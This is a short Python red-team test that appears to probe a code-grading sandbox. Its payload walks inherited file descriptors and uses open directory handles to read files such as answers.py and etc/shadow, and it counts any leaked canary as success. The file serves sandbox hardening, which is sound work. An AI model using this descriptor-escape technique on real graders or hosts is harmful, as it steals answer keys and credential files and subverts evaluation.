"""Every open file descriptor is read, and used as a folder from which to open files.

Success: any canary.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.first(
        SHOW
        + """
import os, stat
for fd in range(3, 256):
    try:
        kind = os.fstat(fd).st_mode
        if stat.S_ISREG(kind):
            show(os.pread(fd, 1 << 22, 0))
        if stat.S_ISDIR(kind):
            for path in ("answers.py", "srv/course/answers.py", "../../answers.py", "etc/shadow"):
                try:
                    show(os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 1 << 20))
                except OSError:
                    pass
    except OSError:
        pass
"""
    )
